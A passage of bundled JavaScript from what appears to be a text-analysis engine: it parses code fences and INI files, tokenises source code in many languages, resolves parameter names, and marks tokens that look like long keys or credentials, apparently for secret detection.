		const escape = ESCAPES$3[text[at + 1]];
		if (escape !== void 0) {
			builder.copy(copied, at).replace(escape, at, at + 2);
			copied = at + 2;
		}
		at++;
	}
	return builder.copy(copied, end).value();
}
// ../engine/dist/read/fences.js
const fence = /^([ \t>]*)(`{3,}|~{3,})([^\n`]*)\n([\s\S]*?)(?:^[ \t>]*\2[`~]*[ \t]*$|(?![\s\S]))/gm;
function* fencesOf(text) {
	for (const match of text.matchAll(fence)) {
		const start = match.index + match[0].indexOf("\n") + 1;
		yield {
			info: match[3] ?? "",
			body: {
				start,
				end: start + (match[4] ?? "").length
			},
			span: {
				start: match.index,
				end: match.index + match[0].length
			}
		};
	}
}
// ../engine/dist/read/ini.js
const SECTION = /^\[([^\]\r\n]{1,200})\]/;
const KEY = /^(?:export[ \t]+)?([^\s=:;#[\]{}"'][^=:\r\n{}"']{0,120}?)[ \t]{0,40}(?:=|:(?!\/\/))[ \t]*/;
const LONGEST_KEY = 200;
/**
* Values go on over lines that are indented deeper than their key, or after a backslash at the line's end. Other lines
* become `bare` bindings. `undefined` when braces open blocks, or less than half of the lines are assignments.
*/
function readIni(text) {
	const entries = new Entries("ini");
	let assignments = 0;
	let others = 0;
	for (let at = 0; at < text.length;) {
		const line = lineAt(text, at);
		at = line.next;
		const start = skipBlanks(text, line.start, line.end);
		const end = trimEnd(text, start, line.end);
		if (start === end) continue;
		if (text[start] === "#" || text[start] === ";") {
			entries.comment(start, end);
			const commented = commentedAssignment(text, line);
			if (commented !== void 0) addValue$1(entries, commented.key, readValue$1(text, commented.value, line, Infinity));
			continue;
		}
		if (text[end - 1] === "{") return void 0;
		const section = SECTION.exec(text.slice(start, Math.min(end, start + LONGEST_KEY + 2)));
		if (section !== null) {
			enterSection(entries, section[1].trim(), start);
			continue;
		}
		const key = KEY.exec(text.slice(start, Math.min(line.end, start + LONGEST_KEY)));
		if (key === null) {
			others++;
			addBare(entries, text, start, end);
			continue;
		}
		assignments++;
		const read = readValue$1(text, start + key[0].length, line, start - line.start);
		addValue$1(entries, key[1], read);
		if (read.comment < read.line.end) entries.comment(read.comment, read.line.end);
		at = read.line.next;
	}
	return assignments > 0 && assignments >= others ? entries.reading() : void 0;
}
function enterSection(entries, name, start) {
	if (entries.depth > 0) {
		entries.close();
		entries.path.pop();
	}
	entries.path.push(name);
	entries.open(start);
}
function addValue$1(entries, key, read) {
	entries.path.push(key);
	entries.add(read.isQuoted ? read.value : scalarOrText(read.value), {
		start: read.start,
		end: read.end
	});
	entries.path.pop();
}
/** The value that begins at `start` in `line`, under a key that is indented by `indent` characters. */
function readValue$1(text, start, line, indent) {
	const comment = inlineComment(text, start - 1, line.end, ";#");
	const end = trimEnd(text, start, comment);
	const quote = text[start];
	if ((quote === "\"" || quote === "'") && end - start >= 2 && text[end - 1] === quote) return {
		value: require_worth_reading.verbatim(text, start + 1, end - 1),
		start,
		end,
		isQuoted: true,
		comment,
		line
	};
	if (indent === Infinity) return {
		value: require_worth_reading.verbatim(text, start, end),
		start,
		end,
		isQuoted: false,
		comment,
		line
	};
	return readLines(text, start, end, comment, line, indent);
}
/** An unquoted value with the lines that continue it. */
function readLines(text, start, firstEnd, comment, first, indent) {
	const builder = new require_worth_reading.TextBuilder(text);
	let line = first;
	let end = firstEnd;
	let rest = comment;
	let from = start;
	let valueStart = start;
	while (line.next < text.length) {
		const isEscaped = end > from && text[end - 1] === "\\" && rest === line.end;
		const next = lineAt(text, line.next);
		const nextStart = skipBlanks(text, next.start, next.end);
		if (!isEscaped && !continues(text, nextStart, next, indent)) break;
		builder.copy(from, isEscaped ? end - 1 : end);
		if (!isEscaped && builder.length > 0) builder.replace("\n", end, nextStart);
		if (builder.length === 0) valueStart = nextStart;
		rest = inlineComment(text, nextStart, next.end, ";#");
		[from, end, line] = [
			nextStart,
			trimEnd(text, nextStart, rest),
			next
		];
	}
	return {
		value: builder.copy(from, end).value(),
		start: Math.min(valueStart, end),
		end,
		isQuoted: false,
		comment: rest,
		line
	};
}
function continues(text, start, line, indent) {
	if (start === line.end || start - line.start <= indent || "#;[".includes(text[start])) return false;
	const key = KEY.exec(text.slice(start, Math.min(line.end, start + LONGEST_KEY)));
	return key === null || /^=*$/.test(text.slice(start + key[0].length, trimEnd(text, start, line.end)));
}
// ../engine/dist/read/inside.js
/** What `reader` says of the value's text, with all positions in the document that holds the value. */
function readInside(value, reader) {
	const reading = reader(value.text);
	const span = (inner) => require_worth_reading.sourceSpan(value, inner);
	const mapValue = (inner) => {
		if (inner.kind === "list") return {
			...inner,
			items: inner.items.map(mapValue)
		};
		if (inner.kind !== "text") return inner;
		return {
			...inner,
			pieces: inner.pieces.flatMap((piece) => through(value, piece.text, piece.source))
		};
	};
	const mapBinding = (binding) => ({
		...binding,
		value: mapValue(binding.value),
		span: span(binding.span),
		container: span({
			start: binding.container,
			end: binding.container
		}).start
	});
	const mapCall = (call) => ({
		...call,
		args: call.args.map(mapBinding),
		span: span(call.span)
	});
	return {
		language: reading.language,
		imports: reading.imports,
		bindings: reading.bindings.map(mapBinding),
		calls: reading.calls.map(mapCall),
		comments: reading.comments.map(span)
	};
}
/** The inner piece cut where the outer text's pieces meet, so that one-to-one stays one-to-one. */
function through(outer, text, source) {
	if (text.end - text.start !== source.end - source.start) return [{
		text,
		source: require_worth_reading.sourceSpan(outer, source)
	}];
	const pieces = [];
	for (let i = require_worth_reading.pieceAt(outer.pieces, source.start); i < outer.pieces.length; i++) {
		const piece = outer.pieces[i];
		if (piece.text.start >= source.end) break;
		const start = Math.max(source.start, piece.text.start);
		const end = Math.min(source.end, piece.text.end);
		pieces.push({
			text: {
				start: text.start + start - source.start,
				end: text.start + end - source.start
			},
			source: require_worth_reading.sourceSpan(outer, {
				start,
				end
			})
		});
	}
	return pieces;
}
// ../engine/dist/read/code/parameters.js
/**
* The names of what a function, a constructor or a record takes, in order: `def make(key, secret)`, `Account =
* namedtuple("Account", "name key secret")`. Looked for in the text around a name, in the forms of all languages, since
* the parser passes over declarations, which hold no values.
*/
/** A signature or the fields of a record are not longer. */
const maxSignature = 2e3;
const maxOccurrences = 30;
/** Not names of parameters. */
const receiver = /^(?:self|cls|this)$/;
/** What stands before a name that is being declared. */
const declared$2 = /\b(?:def|function|func|fn|fun|sub|proc|procedure|record|class|struct)\s+(?:\([^()]{0,80}\)\s*)?$/;
const declaredType$1 = /\b(?:class|struct|record|object|type)\s+$/;
/** A return type or modifiers, as methods of typed languages have. */
const typed$1 = /(?:^|[\n;{}])[ \t]*(?:[\w<>[\],.?*&:]{1,60}[ \t]+){1,6}[*&]?$/;
const notTyped = /\b(?:new|return|throw|await|yield|else|case|go|defer|in|of|not|and|or)[ \t]+$/;
const constructorOf = (name) => new RegExp(`\\b(?:constructor|__init__|__construct|initialize|init|${name})\\s*\\(`);
/** The names that the function or type called `name` takes by position; none where it is not declared in the text. */
function parametersOf(text, name, nameFirst) {
	let at = -1;
	for (let seen = 0; seen < maxOccurrences; seen += 1) {
		at = text.indexOf(name, at + 1);
		if (at < 0) return [];
		if (/\w/.test(text.charAt(at - 1)) || /\w/.test(text.charAt(at + name.length))) continue;
		const names = declaredAt(name, text.slice(Math.max(0, at - 200), at), text.slice(at + name.length, at + name.length + maxSignature), nameFirst);
		if (names.length > 0) return names;
	}
	return [];
}
function declaredAt(name, before, after, nameFirst) {
	const head = /^(?:<[^<>()]{0,80}>)?\s*\(/.exec(after);
	if (head && declared$2.test(before)) return namesIn$1(inParentheses(after, head[0].length), nameFirst);
	if (head && typed$1.test(before) && !notTyped.test(before)) {
		const inner = inParentheses(after, head[0].length);
		if (/^\s*(?:\{|throws\b|:|=>|->|const\b|async\b)/.test(after.slice(head[0].length + inner.length + 1))) return namesIn$1(inner, nameFirst);
	}
	const bound = /^\s*(?::[^=\n]{0,80})?=\s*(?:async\s+)?(?:function\b[^(]{0,40}|func\s*)?\(/.exec(after);
	if (bound) {
		const inner = inParentheses(after, bound[0].length);
		const rest = after.slice(bound[0].length + inner.length + 1);
		if (/func/.test(bound[0]) || /^\s*(?::[^=\n]{0,80})?=>/.test(rest)) return namesIn$1(inner, nameFirst);
	}
	const lambda = /^\s*=\s*lambda\s+([^:\n]{1,200}):/.exec(after)?.[1];
	if (lambda !== void 0) return namesIn$1(lambda, nameFirst);
	const tuple = /^\s*=\s*(?:\w+\.)?(?:namedtuple|NamedTuple)\(\s*["']\w+["']\s*,([^()]{1,600})/.exec(after)?.[1];
	if (tuple !== void 0) return tuple.match(/[A-Za-z_]\w*/g) ?? [];
	const typedTuple = /^\s*=\s*(?:\w+\.)?NamedTuple\(\s*["']\w+["']\s*,\s*\[([^\]]{1,600})\]/.exec(after)?.[1];
	if (typedTuple !== void 0) return [...typedTuple.matchAll(/["'](\w+)["']/g)].map(([, field]) => field ?? "");
	const struct = /^\s*=\s*Struct\.new\(([^()]{1,300})/.exec(after)?.[1];
	if (struct !== void 0) return [...struct.matchAll(/:(\w+)(?!\s*:)/g)].map(([, field]) => field ?? "");
	return declaredType$1.test(before) ? membersOf(name, after, nameFirst) : [];
}
/** What a class's constructor takes, or the fields of a record without one. */
function membersOf(name, after, nameFirst) {
	const end = after.search(/\n(?=[^\s})\]{#/@])/);
	const body = end < 0 ? after : after.slice(0, end);
	const constructor = constructorOf(name).exec(body);
	if (constructor) return namesIn$1(inParentheses(body, constructor.index + constructor[0].length), nameFirst);
	const fields = [];
	for (const line of body.split(/\r?\n/).slice(1)) {
		const field = /^\s+(\w+)\s*:\s*[\w.[\], |"'?]+(?:=.*)?[,;]?$/.exec(line)?.[1] ?? (nameFirst ? /^\s+(\w+)\s+[\w.*[\]]+\s*(?:`[^`]*`)?$/ : /^\s+(?:[\w:<>*&]+\s+){1,4}[*&]?(\w+)\s*(?:=.*)?;$/).exec(line)?.[1];
		if (field !== void 0) fields.push(field);
		else if (/^\s*$|^\s*(?:#|\/\/|@|"""|\{)/.test(line)) continue;
		else break;
	}
	return fields;
}
/** The text up to the parenthesis that closes the one before `from`. */
function inParentheses(text, from) {
	let depth = 1;
	for (let at = from; at < text.length; at += 1) {
		const char = text.charAt(at);
		if (char === "(") depth += 1;
		else if (char === ")") depth -= 1;
		if (depth === 0) return text.slice(from, at);
	}
	return "";
}
/** `self, key: str, secret="…"` → key, secret. */
function namesIn$1(parameters, nameFirst) {
	const names = [];
	for (const part of split$1(parameters.replace(/\/\*.*?\*\/|(?:#|\/\/)[^\n]*/gs, ""))) {
		const plain = part.replace(/=[^>][\s\S]*$/, "").replace(/@\w+(?:\([^)]*\))?/g, "").trim();
		if (plain === "" || plain === "/" || /^this\s/.test(plain)) continue;
		if (/^(?:\.\.\.|\*)\s*\w*$/.test(plain)) break;
		const words = (plain.split(":")[0] ?? "").match(/[A-Za-z_]\w*/g) ?? [];
		const name = (nameFirst && !plain.includes(":") ? words[0] : words.at(-1)) ?? "";
		if (!receiver.test(name)) names.push(name === "_" ? "" : name);
	}
	return names;
}
/** Cuts at the commas that no bracket holds. */
function split$1(list) {
	const parts = [];
	let depth = 0;
	let from = 0;
	for (let at = 0; at < list.length; at += 1) {
		const char = list.charAt(at);
		if ("([{<".includes(char)) depth += 1;
		else if (")]}>".includes(char)) depth -= 1;
		else if (char === "," && depth <= 0) {
			parts.push(list.slice(from, at));
			from = at + 1;
		}
	}
	return [...parts, list.slice(from)];
}
// ../engine/dist/read/code/handed-on.js
/** A text that could be a credential. */
const longValue$1 = 60;
/** More functions than this are not looked for in one text. */
const maxCallees = 40;
const maxHandedOn = 2e3;
const maxLoops = 60;
/** The bindings of texts to the names that functions, records and loops have for them. */
function handedOn({ tokens, language, bindings, calls }) {
	if (language.name === "text") return [];
	return [...toParameters(tokens, calls, language.nameFirst === true), ...toLoops(tokens.text, bindings)];
}
/** A text is read several times, as more of it turns out to be worth it: what its functions take is looked for once. */
const signatures = /* @__PURE__ */ new WeakMap();
function signatureIn(tokens, owner, nameFirst) {
	let known = signatures.get(tokens);
	if (!known) signatures.set(tokens, known = /* @__PURE__ */ new Map());
	let names = known.get(owner);
	if (!names) known.set(owner, names = parametersOf(tokens.text, owner, nameFirst));
	return names;
}
function toParameters(tokens, calls, nameFirst) {
	const found = [];
	const known = /* @__PURE__ */ new Map();
	for (const { callee, args } of calls) {
		const name = callee.at(-1) ?? "";
		const owner = name === "new" ? callee.at(-2) ?? "" : name;
		if (!/^[A-Za-z_]\w+$/.test(owner)) continue;
		for (const arg of args) {
			const [step = ""] = arg.path;
			if (arg.path.length !== 1 || !/^\d{1,2}$/.test(step) || !(isLong(arg.value) || arg.value.kind === "ref")) continue;
			let names = known.get(owner);
			if (!names && known.size < maxCallees) known.set(owner, names = signatureIn(tokens, owner, nameFirst));
			const parameter = names?.[Number(step)];
			if (parameter) found.push({
				...arg,
				path: [owner, parameter]
			});
			if (found.length >= maxHandedOn) return found;
		}
	}
	return found;
}
function toLoops(text, bindings) {
	const found = [];
	let loops;
	for (const binding of bindings) {
		const { path, value, span } = binding;
		const position = path.at(-1) ?? "";
		const row = path.at(-2) ?? "";
		if (!isLong(value) || !/^\d{1,2}$/.test(position)) continue;
		if (found.length >= maxHandedOn) break;
		loops ??= [...loopsIn(text)].slice(0, maxLoops);
		for (const { list, end, names } of loops) {
			const name = /^\d+$/.test(row) && (list === void 0 ? isInHead(text, end, span.start) : path.at(-3) === list) ? names[Number(position)] : void 0;
			if (name) found.push({
				...binding,
				path: [...path.slice(0, -1), name]
			});
		}
		for (const { list, names } of loops) {
			const name = list?.startsWith("zip(") ? names[list.slice(4).split(",").indexOf(row)] : void 0;
			if (name) found.push({
				...binding,
				path: [row, name]
			});
		}
	}
	return found;
}
/** Whether the value stands in the list that begins where the head of the loop ends. */
function isInHead(text, end, at) {
	if (at <= end || at > end + longestList$1) return false;
	let depth = 0;
	for (let index = end; index < at; index += 1) {
		const char = text.charAt(index);
		if (char === "[" || char === "(") depth += 1;
		else if (char === "]" || char === ")") depth -= 1;
		if (depth === 0 && char !== " ") return false;
	}
	return true;
}
/** Lists in the head of a loop are short. */
const longestList$1 = 4e3;
const heads = [
	/\bfor[ \t]{1,8}\(?([A-Za-z_]\w{0,60}(?:[ \t]{0,8},[ \t]{0,8}[A-Za-z_]\w{0,60}){1,8})\)?[ \t]{1,8}in[ \t]{1,8}(?:&|enumerate\()?(zip\([\w ,]{1,200}|\w{1,60})?/g,
	/\bfor[ \t]{0,8}\([ \t]{0,8}(?:(?:const|let|var)[ \t]{1,8})?[[(]([^\])\n]{3,120})[\])][ \t]{1,8}(?:of|in|<-)[ \t]{1,8}(\w{1,60})?/g,
	/\bforeach[ \t]{0,8}\([ \t]{0,8}\$?(?<list>\w{1,60})?[^()\n]{0,40}?\bas[ \t]{0,8}\[(?<names>[^\]\n]{3,120})\]/g,
	/\b(?<list>\w{1,60})\.(?:map|forEach|flatMap|each|each_with_index|for_each)[ \t]{0,8}(?:\((?:async )?\(?[[(]|(?:do|\{)[ \t]{0,8}\|)(?<names>[^\])|\n]{3,120})[\])|]/g
];
function* loopsIn(text) {
	for (const head of heads) for (const match of text.matchAll(head)) {
		const names = match.groups?.["names"] ?? match[1] ?? "";
		yield {
			list: (match.groups ? match.groups["list"] : match[2])?.replace(/ /g, ""),
			end: match.index + match[0].length,
			names: names.split(",").map((name) => /[A-Za-z_]\w*(?=\W*$)/.exec(name)?.[0] ?? "")
		};
	}
}
function isLong(value) {
	return value.kind === "text" && value.text.length >= longValue$1;
}
// ../engine/dist/read/code/tokens.js
/**
* Kinds of tokens. Each operator is a kind of its own: one character has its character code, longer ones have their
* numbers in operators.ts. A word may begin with a digit: numbers and unquoted keys are words.
*/
const Kind = {
	newline: 10,
	openParen: 40,
	closeParen: 41,
	comma: 44,
	dot: 46,
	slash: 47,
	colon: 58,
	semicolon: 59,
	less: 60,
	equals: 61,
	greater: 62,
	question: 63,
	openBracket: 91,
	closeBracket: 93,
	openBrace: 123,
	closeBrace: 125,
	word: 128,
	string: 129,
	/** Any character that is no operator. */
	other: 130,
	/** `=>` */
	fatArrow: 131,
	/** `->` */
	thinArrow: 132,
	/** `::` */
	scope: 133,
	/** `?.` */
	optionalDot: 134
};
/** An opening takes at most so many characters, prefix included. */
const openingBits = 6;
const openingMask = 63;
var Tokens = class {
	text;
	language;
	comments = [];
	length = 0;
	kind;
	start;
	end;
	/** For an opening bracket the index of its partner and back; -1 for all else and for brackets without partner. */
	match;
	/** Of a word: what it means, in bits of words.ts. Of a string: its form's number and how long its opening is. */
	detail;
	#forms;
	/**
	* @param forms how string tokens may be written: heredocs, then each form of the language with and without escapes
	* @param capacity so many tokens have room before more is needed
	*/
	constructor(text, language, forms, capacity) {
		this.text = text;
		this.language = language;
		this.kind = new Uint8Array(capacity);
		this.start = new Int32Array(capacity);
		this.end = new Int32Array(capacity);
		this.match = new Int32Array(capacity);
		this.detail = new Uint16Array(capacity);
		this.#forms = forms;
	}
	push(kind, start, end, detail = 0) {
		const index = this.length;
		if (index + 1 === this.kind.length) this.#grow();
		this.kind[index] = kind;
		this.start[index] = start;
		this.end[index] = end;
		this.match[index] = -1;
		this.detail[index] = detail;
		this.length = index + 1;
	}
	/** @param form its number in the language, 0-based. `plain`: nothing in it is an escape. */
	pushString(start, end, form, opening, plain) {
		const number = 2 * form + (plain ? 2 : 1);
		this.push(Kind.string, start, end, number << openingBits | Math.min(opening, openingMask));
	}
	pushHeredoc(start, end) {
		this.push(Kind.string, start, end);
	}
	/** How a string token is written. */
	form(index) {
		return this.#forms[this.detail[index] >> openingBits];
	}
	/** Where the content of a string token begins, behind its quote. */
	contentStart(index) {
		return this.start[index] + (this.detail[index] & openingMask);
	}
	contentEnd(index) {
		return this.end[index] - this.form(index).close.length;
	}
	/** The characters of a token. */
	slice(index) {
		return this.text.slice(this.start[index], this.end[index]);
	}
	/** Whether it is a word with one of the meanings, bits of words.ts. */
	means(index, meanings) {
		return this.kind[index] === Kind.word && (this.detail[index] & meanings) !== 0;
	}
	/** From the beginning of token `from` to the end of the token before `to`. */
	span(from, to) {
		return {
			start: this.start[from] ?? 0,
			end: this.end[Math.max(from, to - 1)] ?? 0
		};
	}
	/** The closing partner of an opening bracket at `index`, or -1. */
	close(index) {
		const partner = this.match[index] ?? -1;
		return partner > index ? partner : -1;
	}
	/** The first token from `index` on that is no line end; at most `to`. */
	skipNewlines(index, to) {
		while (index < to && this.kind[index] === Kind.newline) index += 1;
		return index;
	}
	#grow() {
		const capacity = this.kind.length * 2;
		const longer = (array, copy) => {
			copy.set(array);
			return copy;
		};
		this.kind = longer(this.kind, new Uint8Array(capacity));
		this.start = longer(this.start, new Int32Array(capacity));
		this.end = longer(this.end, new Int32Array(capacity));
		this.match = longer(this.match, new Int32Array(capacity));
		this.detail = longer(this.detail, new Uint16Array(capacity));
	}
};
// ../engine/dist/read/code/operators.js
/**
* The operators of all languages: their kinds, and what each means to the parser. Data only; the parser asks by kind.
*/
/** Operators of more than one character, longest first. Those with a name in `Kind` are named here alike. */
const longer = [
	["===", 135],
	["!==", 136],
	["??=", 137],
	["||=", 138],
	["<=>", 139],
	["...", 140],
	["//=", 141],
	["=>", Kind.fatArrow],
	["->", Kind.thinArrow],
	["::", Kind.scope],
	["?.", Kind.optionalDot],
	[":=", 142],
	["==", 143],
	["!=", 144],
	["??", 145],
	["||", 146],
	["&&", 147],
	["<-", 148],
	["+=", 149],
	[".=", 150],
	["?:", 151],
	["..", 152],
	["<>", 153],
	["<<", 154]
];
/** Full-width punctuation that means what its narrow twin means. */
const wide = /* @__PURE__ */ new Map([
	["：", ":"],
	["＝", "="],
	["，", ","],
	["、", ","],
	["；", ";"]
]);
const none$4 = [];
const byFirst = Array.from({ length: 128 }, (_, code) => {
	const operators = longer.filter(([text]) => text.charCodeAt(0) === code);
	return operators.length > 0 ? operators : none$4;
});
/** The kind of the operator at `at`; `Kind.other` where there is none. */
function operatorAt(text, at) {
	const code = text.charCodeAt(at);
	if (code >= 128) return wide.get(text.charAt(at))?.charCodeAt(0) ?? Kind.other;
	for (const [operator, kind] of byFirst[code] ?? none$4) if (text.startsWith(operator, at)) return kind;
	return code > 32 ? code : Kind.other;
}
/** How many characters an operator takes, by kind. */
const lengthOf = (/* @__PURE__ */ new Uint8Array(256)).fill(1);
for (const [text, kind] of longer) lengthOf[kind] = text.length;
function kindOf(operator) {
	return longer.find(([text]) => text === operator)?.[1] ?? operator.charCodeAt(0);
}
/** 1 for each of these operators, by kind. */
function table(operators) {
	const marks = /* @__PURE__ */ new Uint8Array(256);
	for (const operator of operators.split(" ")) marks[kindOf(operator)] = 1;
	return marks;
}
/** A name stands before it, its value after it. */
const assigning = table("= : := => == === != !== <- += ??= ||= .= //= ->");
/** Literals on both sides make one. */
const joining = table("+ .. <> & ~ . << ...");
/** What stands on either side may be the value. */
const alternating = table("|| ?? ?: ? : | , && ;");
/** Leads from a thing to its part. */
const accessing = table(". :: -> ?. \\");
/** A line that ends in one of these goes on. */
const continuesAfter = table("= := + . .. -> => == === || && ?? ?: : <- <> & | \\ += ~ ??= ||= ( [ { :: ?. << ^");
/** A line that begins with one of these goes on from the line before. */
const continuesBefore = table(". ?. + || && ?? ? => -> .. <> ?: ) ] = :: & : <<");
/** May stand between a name and its assigning operator: `key? = …`, `key!: …`. */
const beforeAssigning = table("? ! \" ' ` *");
/** Operators that may follow the `>` of type arguments, as anything may that is no operator. */
const afterTypeArguments = table("( { = ) [ , >");
for (const kind of [
	0,
	Kind.newline,
	Kind.word,
	Kind.string,
	Kind.other
]) afterTypeArguments[kind] = 1;
/** May stand inside type arguments. */
const insideTypeArguments = table(", . ? [ ] & ::");
insideTypeArguments[Kind.word] = 1;
// ../engine/dist/read/code/sieve.js
/**
* Tells most words that are none of a few known ones by their first character and their length, without a copy of them.
*/
var Sieve = class {
	/** For each first character a bit for each length; of both only the lowest bits count. */
	#lengths = /* @__PURE__ */ new Int32Array(128);
	add(word) {
		this.#lengths[word.charCodeAt(0) & 127] |= 1 << word.length;
	}
	/** Whether [start, end) may be one of the words. */
	passes(text, start, end) {
		return (this.#lengths[text.charCodeAt(start) & 127] >> end - start & 1) !== 0;
	}
};
// ../engine/dist/read/code/words.js
/**
* What words mean in programming languages, all of them at once: keywords, literals, numbers. The lexer asks once for
* each word and keeps the answer as bits.
*/
/** Meanings of a word, as bits. */
const Word = {
	/** Begins a statement whose head holds no values of its own: `if`, `class`. */
	block: 1,
	/** Names what follows it: `class Bot`. */
	declares: 2,
	/** Stands before a new variable: `const [a, b]`. */
	variable: 4,
	/** A colon may end what it begins: `if x: …`, `case 1: …`. */
	clause: 8,
	/** An operator or a modifier before an expression: `return …`, `await …`. */
	prefix: 16,
	/** What stands on either side may be the value: `a or b`. */
	alternating: 32,
	/** `as`: a type follows. */
	cast: 64,
	/** `new` */
	new: 128,
	/** A number, a truth value, nothing. */
	scalar: 256,
	/** Stands before a name and is none: `var x`. */
	beforeName: 512,
	/** A slash after it begins a regular expression. */
	beforeRegex: 1024,
	/** Declares all that stands in the parentheses after it: Go's `const ( … )`. */
	group: 2048,
	/** What follows is what the function stands for. */
	returns: 4096
};
const exact$1 = [
	[Word.block, `if else elif elsif unless for foreach while switch case match when with try catch finally do func fun fn function
    def class struct interface trait impl enum namespace module constructor extension protocol`],
	[Word.declares, "class struct interface trait impl enum namespace module object record func fun fn function def package"],
	[Word.variable, "const let var val auto final my our local readonly"],
	[Word.clause, "if else elif for while case with try when default except finally unless"],
	[Word.alternating, "or else if unless and then in"],
	[Word.cast, "as satisfies"],
	[Word.new, "new"],
	[Word.scalar, "true false null nil none undefined nan NULL True False None"],
	[Word.beforeName, "var const return case if for else switch range go defer func type"],
	[Word.beforeRegex, "return case typeof in of do else"],
	[Word.group, "const var import type"],
	[Word.returns, "return"]
];
/** These mean it in any case: `RETURN`, `Not`. */
const inAnyCase = [[Word.prefix, `new return await throw yield raise in and or not is as typeof delete void mut ref out const let var val final lazy
    global local my our echo print puts assert`]];
const inAnyCaseMeanings = tableOf(inAnyCase);
const meanings = tableOf([...exact$1, ...inAnyCase]);
const sieve = new Sieve();
for (const word of meanings.keys()) sieve.add(word);
for (const word of inAnyCaseMeanings.keys()) sieve.add(word.toUpperCase());
const number = /^-?\d[\d_.a-z]*$/;
/** The meanings of the word [start, end), 0 for most. */
function meaningOfWord(text, start, end) {
	if (text.charCodeAt(start) <= nine) return number.test(text.slice(start, end)) ? Word.scalar : 0;
	return sieve.passes(text, start, end) ? meaningOf(text.slice(start, end)) : 0;
}
const nine = 57;
/** The meanings of a word that is no number. */
function meaningOf(word) {
	return meanings.get(word) ?? inAnyCaseMeanings.get(word.toLowerCase()) ?? 0;
}
function tableOf(rows) {
	const table = /* @__PURE__ */ new Map();
	for (const [meaning, words] of rows) for (const word of words.split(/\s+/)) table.set(word, (table.get(word) ?? 0) | meaning);
	return table;
}
const isAlphanumeric = /* @__PURE__ */ new Uint8Array(128);
/** The alphabet of base64 without `=`. */
const isBase64 = /* @__PURE__ */ new Uint8Array(128);
for (let code = 0; code < 128; code += 1) {
	const char = String.fromCharCode(code);
	if (/[A-Za-z0-9]/.test(char)) isAlphanumeric[code] = 1;
	if (/[A-Za-z0-9+/]/.test(char)) isBase64[code] = 1;
}
/** Whether so many letters and digits stand in a row that a key may be among them: no name is that long. */
function holdsLongRun(text, start, end) {
	return holdsRun(text, start, end, 60, isAlphanumeric);
}
/** Whether a credential, or a part of one, could stand there. */
function holdsShortRun(text, start, end) {
	return holdsRun(text, start, end, 16, isBase64);
}
/** A run covers one of any `length` characters that follow each other: only there it is looked for. */
function holdsRun(text, start, end, length, member) {
	for (let last = start + length - 1; last < end;) {
		let at = last;
		while (at > last - length && member[text.charCodeAt(at)] === 1) at -= 1;
		if (at === last - length) return true;
		last = at + length;
	}
	return false;
}
// ../engine/dist/read/code/relevance.js
/** From this length on a word is, and a text may be, a credential. */
const longValue = 60;
/** A key, or a line of a private key. */
const holdsValue = /[A-Za-z0-9+/]{60}/;
/** Shorter strings hold no part of a credential; they may name an exchange. */
const shortString = 16;
const exchangeWord = /^[A-Za-z][\w.]{1,20}$/;
/** A list of texts that make a key when they are joined. */
function isPieces(value) {
	if (value.kind !== "list" || value.items.length < 2 || value.items.length > 64) return false;
	return value.items.reduce((sum, item) => sum + (item.kind === "text" ? item.text.length : 1e3), 0) === 64;
}
/** Marks that can be counted over any range of tokens. */
var Marks = class {
	#marks;
	#counts;
	constructor(length) {
		this.#marks = new Uint8Array(length);
		this.#counts = new Int32Array(length + 1);
	}
	has(index) {
		return this.#marks[index] === 1;
	}
	/** Counts know of it after `count()`. */
	add(index) {
		this.#marks[index] = 1;
	}
	count() {
		const marks = this.#marks;
		const counts = this.#counts;
		for (let index = 0, count = 0; index < marks.length; index += 1) counts[index + 1] = count += marks[index];
	}
	none(from, to) {
		return this.#counts[from] === this.#counts[to];
	}
};
/** Marks the tokens that are, or tell of, values worth knowing; undefined when no token could be a credential. */
function markValues(tokens) {
	const { length, kind, start, end, text } = tokens;
	const marks = new Marks(length);
	let found = false;
	const named = length > 0 && require_gates.mentionsPassphrase(text.slice(start[0], end[length - 1]));
	for (let index = 0; index < length; index += 1) {
		const here = kind[index];
		if (here === Kind.word) {
			const length = end[index] - start[index];
			if (length < longValue && !(named && length > 6 && require_gates.mentionsPassphrase(tokens.slice(index)))) continue;
			marks.add(index);
			found = true;
		} else if (here === Kind.string) {
			const from = tokens.contentStart(index);
			const to = tokens.contentEnd(index);
			if (to - from < shortString) {
				const inner = text.slice(from, to);
				if (exchangeWord.test(inner) && require_worth_reading.namesExchange(inner)) marks.add(index);
			} else if (holdsShortRun(text, from, to)) {
				marks.add(index);
				found = true;
			}
		}
	}
	if (!found) return void 0;
	marks.count();
	return marks;
}
/** So many lines around what matches are read too: its neighbours say what it is. */
const linesBeside = 3;
/** In a file of one line, so many characters. */
const reach$8 = 1e3;
/** Marks the tokens around all that matches a global pattern; undefined where nothing does. Linear in text and matches. */
function markMatching(tokens, pattern) {
	const { length, kind, start, end, text } = tokens;
	if (length === 0) return void 0;
	const marks = new Marks(length);
	const [from, to] = [start[0], end[length - 1]];
	let index = 0;
	let found = false;
	let done = -1;
	for (const { index: at } of text.slice(from, to).matchAll(pattern)) {
		const here = from + at;
		if (here < done - reach$8) continue;
		const lines = require_worth_reading.linesAround(text, {
			start: here,
			end: here
		}, linesBeside);
		const window = {
			start: Math.max(lines.start, here - reach$8),
			end: Math.min(lines.end, here + reach$8)
		};
		done = window.end;
		while (index < length && end[index] <= window.start) index += 1;
		for (; index < length && start[index] < window.end; index += 1) {
			if (kind[index] !== Kind.word && kind[index] !== Kind.string) continue;
			marks.add(index);
			found = true;
		}
	}
	if (!found) return void 0;
	marks.count();
	return marks;
}
/**
* Marks the statements that were passed over and give a value to a name that was met: where a client is made, what a
* constant stands for. Whether there was any.
*/
function markReferences({ tokens, marks, bindings, calls, passedOver }) {
	if (passedOver.length === 0) return false;
	const names = /* @__PURE__ */ new Set();
	const sieve = new Sieve();
	const add = (name) => {
		if (!name || /^\d*$/.test(name)) return;
		names.add(name);
		sieve.add(name);
	};
	const addReferences = ({ value }) => {
		if (value.kind !== "ref") return;
		add(value.path[0]);
		add(value.path.at(-1));
	};
	bindings.forEach(addReferences);
	for (const { callee, args } of calls) {
		if (callee.length > 1) add(callee.at(-2));
		add(callee.length > 2 ? callee[0] : void 0);
		args.forEach(addReferences);
	}
	const { kind, start, end, text } = tokens;
	let marked = false;
	for (let range = 0; range < passedOver.length; range += 2) for (let index = passedOver[range]; index < passedOver[range + 1]; index += 1) {
		if (kind[index] !== Kind.word || marks.has(index)) continue;
		const next = kind[index + 1];
		if (!assigning[next] && next !== Kind.colon) continue;
		const [from, to] = [start[index], end[index]];
